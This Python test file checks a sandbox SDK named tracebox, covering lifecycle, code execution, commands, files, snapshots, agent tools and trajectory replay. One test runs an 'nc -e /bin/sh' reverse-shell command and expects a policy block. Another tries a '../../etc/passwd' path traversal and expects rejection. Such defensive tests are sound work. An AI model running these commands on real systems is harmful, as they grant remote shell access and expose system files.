"""``Sandbox``: life, code cells, commands, files, snapshots, agent tools, trajectories."""

from __future__ import annotations

import json
import time
import uuid
from pathlib import Path

import pytest

import tracebox


def gone(sandbox_id: str) -> bool:
    with tracebox.Client() as client:
        try:
            tracebox.Sandbox.connect(sandbox_id, client=client)
        except tracebox.NotFound:
            return True
        return False


def test_the_context_manager_kills_the_sandbox(client):
    with tracebox.Sandbox.create() as sbx:
        assert isinstance(sbx.info, tracebox.SandboxInfo)
        assert sbx.sandbox_id.startswith("sbx_") and sbx.info.status == "running"
        assert sbx.info.language == "python" and sbx.trace_id
        assert sbx.commands.run("echo alive").stdout == "alive\n"
    assert gone(sbx.sandbox_id)
    with pytest.raises(tracebox.NotFound):
        sbx.get_info()
    assert sbx.kill() is False, "killing it again says it was gone"
    assert client.traces.get(sbx.trace_id).kind == "sandbox", "its trace stays"


def test_the_context_manager_kills_the_sandbox_when_the_body_raises():
    with pytest.raises(RuntimeError, match="the agent failed"):
        with tracebox.Sandbox.create() as sbx:
            sbx.files.write("half-done.txt", "…")
            raise RuntimeError("the agent failed")
    assert gone(sbx.sandbox_id)


def test_create_with_every_field_then_list_connect_and_kill(client):
    client.files.upload(b"seed\n", name="sbx-seed.txt", overwrite=True)
    tag = uuid.uuid4().hex[:8]
    sbx = tracebox.Sandbox.create(
        "python",
        timeout=120,
        on_timeout="pause",
        memory_mb=256,
        cpus=1,
        disk_mb=64,
        envs={"MODE": "test"},  # E2B's spelling of env
        files=["sbx-seed.txt"],
        metadata={"suite": "sdk", "tag": tag},
        client=client,
    )
    try:
        info = sbx.info
        assert (info.memory_mb, info.cpus, info.disk_mb, info.timeout, info.on_timeout) == (256, 1, 64, 120, "pause")
        assert info.metadata == {"suite": "sdk", "tag": tag}
        assert info.expires_at is not None and info.created_at is not None and info.lifetime_ends_at is not None
        assert sbx.files.read("sbx-seed.txt") == "seed\n"
        assert sbx.commands.run("echo $MODE").stdout == "test\n"

        listed = tracebox.Sandbox.list(metadata={"tag": tag})
        assert [s.sandbox_id for s in listed] == [sbx.sandbox_id]
        assert sbx.sandbox_id in [s.sandbox_id for s in tracebox.Sandbox.list(status="running", client=client)]
        assert tracebox.Sandbox.list(status="paused", metadata={"tag": tag}) == []

        again = tracebox.Sandbox.connect(sbx.sandbox_id, client=client)
        assert again.sandbox_id == sbx.sandbox_id and again.get_info().steps >= 2
        assert again.is_running()
    finally:
        assert sbx.kill() is True
    assert not sbx.is_running()
    assert tracebox.Sandbox.list(metadata={"tag": tag}) == []


def test_run_code_keeps_state_and_reports_results_and_errors():
    with tracebox.Sandbox.create() as sbx:
        first = sbx.run_code("x = 41\nimport math")
        assert (first.status, first.result, first.error) == ("success", None, None)
        second = sbx.run_code("print('x is', x)\nx + 1")
        assert isinstance(second, tracebox.CodeResult)
        assert (second.stdout, second.result, second.text) == ("x is 41\n", "42", "42")

        failed = sbx.run_code("1 / 0")
        assert failed.status == "error" and not failed.ok
        assert failed.error is not None and failed.error.name == "ZeroDivisionError"
        assert "division by zero" in failed.error.value and "ZeroDivisionError" in failed.error.traceback
        assert sbx.run_code("math.sqrt(x + 8)").result == "7.0", "the interpreter survived the error"

        slow = sbx.run_code("import time\ntime.sleep(30)", timeout=1)
        assert slow.status == "timeout" and slow.interrupted

        chunks: list[str] = []
        errs: list[str] = []
        streamed = sbx.run_code(
            "import sys, time\nfor i in range(3):\n    print(i, flush=True)\n    time.sleep(0.05)\n"
            "print('warn', file=sys.stderr)\nx * 2",
            on_stdout=chunks.append,
            on_stderr=errs.append,
        )
        assert "".join(chunks) == streamed.stdout == "0\n1\n2\n"
        assert errs == ["warn\n"] and streamed.result == "82"
        raised = sbx.run_code("raise KeyError('k')", on_stdout=chunks.append)
        assert raised.status == "error" and raised.error and raised.error.name == "KeyError"

        sbx.restart_code()
        after = sbx.run_code("x")
        assert after.error is not None and after.error.name == "NameError"


def test_node_sandbox_cells():
    with tracebox.Sandbox.create("node") as sbx:
        sbx.run_code("let n = 20")
        assert sbx.run_code("n + 22").result == "42"


def test_commands_run_with_cwd_env_stdin_and_timeout():
    with tracebox.Sandbox.create() as sbx:
        sbx.files.write("sub/dir/marker.txt", "here")
        ran = sbx.commands.run("pwd; ls; echo $NAME; cat", cwd="sub/dir", env={"NAME": "ada"}, stdin="from stdin")
        assert isinstance(ran, tracebox.CommandResult)
        assert ran.stdout == "/workspace/sub/dir\nmarker.txt\nada\nfrom stdin"
        failed = sbx.commands.run("echo out; echo err >&2; exit 4")
        assert (failed.exit_code, failed.status, failed.stdout, failed.stderr) == (4, "error", "out\n", "err\n")
        slow = sbx.commands.run("sleep 30", timeout=1)
        assert slow.status == "timeout" and slow.timed_out

        out: list[str] = []
        err: list[str] = []
        streamed = sbx.commands.run(
            "pwd; echo warn >&2; cat; echo $NAME",
            cwd="/workspace/sub",
            env={"NAME": "grace"},
            stdin="piped\n",
            on_stdout=out.append,
            on_stderr=err.append,
            timeout=10,
        )
        assert "".join(out) == streamed.stdout == "/workspace/sub\npiped\ngrace\n"
        assert "".join(err) == streamed.stderr == "warn\n"
        with pytest.raises(tracebox.PolicyBlocked) as blocked:
            sbx.commands.run("nc -e /bin/sh 10.0.0.1 4242")
        assert blocked.value.rules == ["shell.reverse_shell"]


def test_files_read_write_list_remove_upload_download(tmp_path: Path):
    with tracebox.Sandbox.create() as sbx:
        entry = sbx.files.write("notes/a.txt", "hello\n")
        assert (entry.name, entry.path, entry.type, entry.size) == ("a.txt", "notes/a.txt", "file", 6)
        sbx.files.write("notes/b.bin", b"\x00\x01\xff")
        assert sbx.files.read("notes/a.txt") == "hello\n"
        assert sbx.files.read("/workspace/notes/b.bin", format="bytes") == b"\x00\x01\xff"

        listed = {e.name: e for e in sbx.files.list("notes")}
        assert set(listed) == {"a.txt", "b.bin"}
        assert listed["b.bin"].size == 3 and listed["a.txt"].modified is not None
        assert any(e.name == "notes" and e.is_dir for e in sbx.files.list())
        assert sbx.files.exists("notes/a.txt") and sbx.files.exists("notes")
        assert not sbx.files.exists("notes/nope.txt") and not sbx.files.exists("missing/dir/x")

        local = tmp_path / "report.csv"
        local.write_text("a,b\n1,2\n")
        uploaded = sbx.files.upload(local, path="data")
        assert [(e.name, e.path) for e in uploaded] == [("report.csv", "data/report.csv")]
        sbx.files.upload(b"raw bytes", name="raw.txt", path="data")
        with open(local, "rb") as handle:
            sbx.files.upload(handle, path="data/copy")
        assert sbx.commands.run("cat data/raw.txt; wc -l < data/copy/report.csv").stdout == "raw bytes2\n"

        target = tmp_path / "back.csv"
        assert sbx.files.download("data/report.csv", target) == b"a,b\n1,2\n"
        assert target.read_text() == "a,b\n1,2\n"

        sbx.files.remove("notes/a.txt")
        assert not sbx.files.exists("notes/a.txt")
        sbx.files.remove("data")
        assert not sbx.files.exists("data")
        with pytest.raises(tracebox.NotFound) as missing:
            sbx.files.read("notes/a.txt")
        assert missing.value.code == "no_such_file"
        with pytest.raises(tracebox.InvalidRequest) as outside:
            sbx.files.read("../../etc/passwd")
        assert outside.value.code == "bad_path"


def test_pause_resume_set_timeout_snapshot_and_reset():
    with tracebox.Sandbox.create(timeout=300) as sbx:
        info = sbx.set_timeout(900)
        assert info.timeout == 900 and sbx.info.timeout == 900
        sbx.set_timeout(600, on_timeout="kill")
        assert sbx.get_info().on_timeout == "kill"

        sbx.files.write("state.txt", "v1")
        sbx.run_code("kept = 'in memory'")
        assert sbx.pause().status == "paused"
        assert not sbx.is_running()
        with pytest.raises(tracebox.Conflict) as paused:
            sbx.commands.run("true")
        assert (paused.value.status, paused.value.code) == (409, "sandbox_conflict")
        resumed = sbx.resume()
        assert resumed.status == "running" and resumed.note
        assert sbx.files.read("state.txt") == "v1", "the workspace survives a pause"
        assert sbx.run_code("kept").error is not None, "interpreter state does not"

        snap = sbx.snapshot(label="v1")
        assert isinstance(snap, tracebox.SnapshotInfo) and snap.snapshot_id and snap.label == "v1"
        sbx.files.write("state.txt", "v2")
        sbx.files.write("extra.txt", "x")
        snapshots = sbx.snapshots()
        assert [s.label for s in snapshots][-2:] == ["pause", "v1"], "oldest first, the server's own too"
        assert snapshots[-1].snapshot_id == snap.snapshot_id

        sbx.reset(snap)
        assert sbx.files.read("state.txt") == "v1" and not sbx.files.exists("extra.txt")
        sbx.reset()  # the state right after creation: an empty workspace
        assert sbx.files.list() == []


def test_connect_resumes_a_paused_sandbox_unless_told_not_to(client):
    with tracebox.Sandbox.create(client=client) as sbx:
        sbx.pause()
        kept = tracebox.Sandbox.connect(sbx.sandbox_id, resume=False, client=client)
        assert kept.info.status == "paused"
        connected = tracebox.Sandbox.connect(sbx.sandbox_id, client=client)
        assert connected.info.status == "running"
        assert connected.commands.run("echo back").stdout == "back\n"


def test_a_user_key_clones_no_repository_from_the_servers_disk(git_repo):
    repo, first = git_repo
    with pytest.raises(tracebox.Forbidden) as refused:
        tracebox.Sandbox.create(repo=str(repo), commit=first)
    assert "https://" in refused.value.message


def test_agent_tools_trajectory_and_replay(git_repo, server):
    repo, first = git_repo
    # A repository on the server's own disk is for admin keys (docs/access.md).
    with tracebox.Sandbox.create(
        repo=str(repo), commit=first, setup=["echo ready > setup.txt"], api_key=server.admin_key
    ) as sbx:
        assert sbx.files.read("setup.txt") == "ready\n" and not sbx.files.exists("later.txt")

        found = sbx.tools.search("def add", glob="*.py")
        assert isinstance(found, tracebox.ToolResult)
        assert found.success and found.output.strip() == "calc.py:1:def add(a, b):"
        read = sbx.tools.file_read("calc.py", start_line=2, end_line=2)
        assert read.success and "a - b" in read.output and read.trace_id
        failing = sbx.tools.shell("python3 test_calc.py", timeout=30)
        assert not failing.success and failing.exit_code == 1 and "add is wrong" in failing.output
        wrote = sbx.tools.file_write("calc.py", "def add(a, b):\n    return a + b\n")
        assert wrote.success and wrote.diff and "+    return a + b" in wrote.diff
        passing = sbx.tools.shell("python3 test_calc.py")
        assert passing.success and passing.output == "ok\n"
        diff = sbx.tools.git("diff", "--stat")
        assert diff.success and "calc.py" in diff.output
        log = sbx.tools.git(["log", "--oneline"])
        assert log.output.count("\n") == 1 and "first" in log.output
        assert sbx.tools.call("search", pattern="return a \\+ b").success

        with pytest.raises(tracebox.InvalidRequest) as bad_params:
            sbx.tools.file_read("calc.py", start_line=0)
        assert bad_params.value.code == "invalid_sandbox"
        with pytest.raises(tracebox.NotFound) as no_tool:
            sbx.tools.call("teleport", params={"to": "mars"})
        assert no_tool.value.code == "no_such_tool"

        trajectory = sbx.trajectory()
        assert isinstance(trajectory, tracebox.Trajectory) and trajectory.sandbox_id == sbx.sandbox_id
        names = [s.tool_name for s in trajectory.steps]
        assert names == ["search", "file_read", "shell", "file_write", "shell", "git", "git", "search"]
        assert trajectory.steps[2].exit_code == 1
        swe = sbx.trajectory(format="swe-agent")
        assert isinstance(swe, dict) and len(swe["trajectory"]) == len(names)

        # Saved as JSON and replayed from the creation state: the same outputs.
        saved = json.loads(json.dumps(trajectory.to_dict()))
        replay = sbx.replay(saved)
        assert isinstance(replay, tracebox.ReplayResult)
        assert replay.success and replay.divergence_step == -1 and replay.trace_id
        assert len(replay.steps) == len(names) and not any(s.diverged for s in replay.steps)
        assert len(sbx.trajectory().steps) == len(names), "a replay adds no step to the trajectory"

        # Without the reset, calc.py is already fixed: the read of its line 2 diverges first,
        # and the first test run now passes.
        replay = sbx.replay(trajectory, reset=False)
        assert not replay.success and replay.divergence_step == 1
        assert [s.diverged for s in replay.steps[:3]] == [False, True, True]
        assert replay.steps[2].expected_exit_code == 1 and replay.steps[2].exit_code == 0

        # Steps marked compare=False run but never diverge.
        trajectory.steps[1].compare = False
        trajectory.steps[2].compare = False
        assert sbx.replay(trajectory, reset=False).divergence_step == -1


def test_a_sandbox_lives_until_killed_outside_a_with_block():
    sbx = tracebox.Sandbox.create()
    try:
        time.sleep(0.2)
        assert not gone(sbx.sandbox_id)
    finally:
        sbx.close()
    assert gone(sbx.sandbox_id)
